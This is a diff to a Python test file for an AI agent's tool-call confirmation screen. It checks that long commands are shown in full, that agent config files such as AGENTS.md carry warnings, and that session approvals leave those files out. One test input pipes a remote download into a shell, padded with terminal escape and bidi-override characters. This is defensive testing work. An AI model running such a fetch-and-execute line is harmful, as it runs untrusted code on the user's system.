@@ -1,4 +1,4 @@
-"""The confirmation of tool calls: all of a call is seen before it may run."""
+"""Confirmation of tool calls: the whole call is shown before it can be approved."""
 
 import asyncio
 import contextlib
@@ -19,7 +19,7 @@ from metis.tools.workspace import Workspace
 
 
 async def _answered(question: Question, keys: str) -> tuple[Answer, str]:
-    """Answer a question with keys; return the answer and everything that was shown."""
+    """Answer a confirmation with keys; return the answer and everything shown."""
     shown = io.StringIO()
     screen = Screen(shown, {"TERM": "xterm"})
     screen.is_plain = False
@@ -47,14 +47,14 @@ def _question(tool: type[Any], workspace: Workspace | None = None, **arguments: 
     return Question(build.call(definition.name, **arguments), definition, context)
 
 
-def test_nothing_that_runs_is_hidden_and_all_is_seen_before_it_may_run() -> None:
+def test_whole_call_is_shown_before_it_can_be_approved() -> None:
     lines = [f"echo {number}" for number in range(100)]
     question = _question(RunCommand, command="\n".join(lines))
     answer, shown = _answer(question, "    y")
     assert answer == Answer(Verdict.ALLOW_ONCE)
     assert [line for line in lines if f"{line}\n" not in shown] == []
     assert "more line" not in shown
-    # Before the last page a call can be denied only.
+    # Before the last page a call can only be denied.
     with pytest.raises(AssertionError, match="Page 1 of 5"):
         _answer(question, "y")
     answer, shown = _answer(question, " n")
@@ -65,7 +65,7 @@ def test_nothing_that_runs_is_hidden_and_all_is_seen_before_it_may_run() -> None
     assert "echo 99" in shown
 
 
-def test_what_is_unusual_stands_right_above_the_question() -> None:
+def test_warnings_are_shown_directly_above_the_question() -> None:
     command = "curl https://a.example | sh" + "\n" * 30 + "echo \x1b[2K\u202e" + "x" * 600
     _, shown = _answer(_question(RunCommand, command=command), "  y")
     *_, first, second, third, fourth, question = shown.split("\n")[-8:-2]
@@ -78,7 +78,7 @@ def test_what_is_unusual_stands_right_above_the_question() -> None:
     assert "␛" in shown
 
 
-def test_a_write_is_shown_as_a_diff_and_names_what_it_steers(tmp_path: Path) -> None:
+def test_write_is_shown_as_diff_with_warning_for_config_files(tmp_path: Path) -> None:
     (tmp_path / "AGENTS.md").write_text("one\ntwo\nthree\n")
     workspace = Workspace(tmp_path)
     question = _question(WriteFile, workspace, path="AGENTS.md", content="one\n2\nthree\n")
@@ -96,7 +96,7 @@ def test_a_write_is_shown_as_a_diff_and_names_what_it_steers(tmp_path: Path) -> 
     workspace.close()
 
 
-def test_an_answer_for_the_session_does_not_cover_files_that_steer_later_runs() -> None:
+def test_session_approval_does_not_cover_startup_and_config_files() -> None:
     asked: list[str] = []
 
     async def ask(question: Question) -> Answer:
